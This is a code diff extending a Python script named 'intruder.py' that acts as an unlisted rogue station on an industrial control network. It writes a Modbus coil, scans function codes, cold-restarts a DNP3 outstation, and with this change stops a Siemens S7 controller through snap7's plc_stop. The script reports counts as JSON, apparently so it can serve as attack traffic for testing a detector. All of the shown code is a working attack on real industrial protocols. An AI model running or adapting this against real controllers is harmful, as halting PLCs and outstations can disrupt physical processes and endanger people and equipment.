@@ -1,6 +1,6 @@
-"""A station that nobody listed: writes a coil, scans function codes, restarts the outstation.
+"""A station that nobody listed: writes a coil, scans function codes, restarts the outstation, stops the S7 controller.
 
-Usage: intruder.py PLC OUTSTATION PAUSE
+Usage: intruder.py PLC OUTSTATION CONTROLLER PAUSE
 """
 import asyncio
 import json
@@ -12,6 +12,7 @@ import time
 from dnp3.application.builder import build_cold_restart_request
 from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
 from pymodbus.client import ModbusTcpClient
+from snap7.client import Client
 
 
 def write_coil(plc):
@@ -42,10 +43,19 @@ async def cold_restart(outstation):
         await asyncio.sleep(1)
 
 
-plc, outstation, pause = sys.argv[1], sys.argv[2], float(sys.argv[3])
+def stop(controller):
+    client = Client()
+    client.connect(controller, 0, 2)
+    client.plc_stop()
+    client.disconnect()
+
+
+plc, outstation, controller, pause = *sys.argv[1:4], float(sys.argv[4])
 write_coil(plc)
 time.sleep(pause)
 scanned = scan_functions(plc)
 time.sleep(pause)
 asyncio.run(cold_restart(outstation))
-print(json.dumps({"coils_written": 1, "functions_scanned": scanned, "cold_restarts": 1}))
+time.sleep(pause)
+stop(controller)
+print(json.dumps({"coils_written": 1, "functions_scanned": scanned, "cold_restarts": 1, "stops": 1}))
